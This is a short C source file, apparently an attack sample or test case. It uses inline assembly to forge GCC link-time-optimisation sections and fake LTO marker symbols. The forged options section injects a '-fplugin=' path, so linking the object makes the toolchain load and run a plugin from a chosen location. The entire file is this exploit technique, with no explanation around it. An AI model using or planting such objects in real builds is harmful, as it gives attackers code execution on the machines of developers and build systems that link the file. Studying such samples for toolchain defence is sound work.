#include "attack.h"
__asm__(".section .gnu.lto_.opts,\"e\",@progbits\n.string \"-fplugin=" PLACE "/kept\"\n.section .gnu.lto_own.1,\"e\",@progbits\n.long 1\n"
        ".comm __gnu_lto_v1,1,1\n.comm __gnu_lto_slim,1,1\n.text");
#include "body.h"
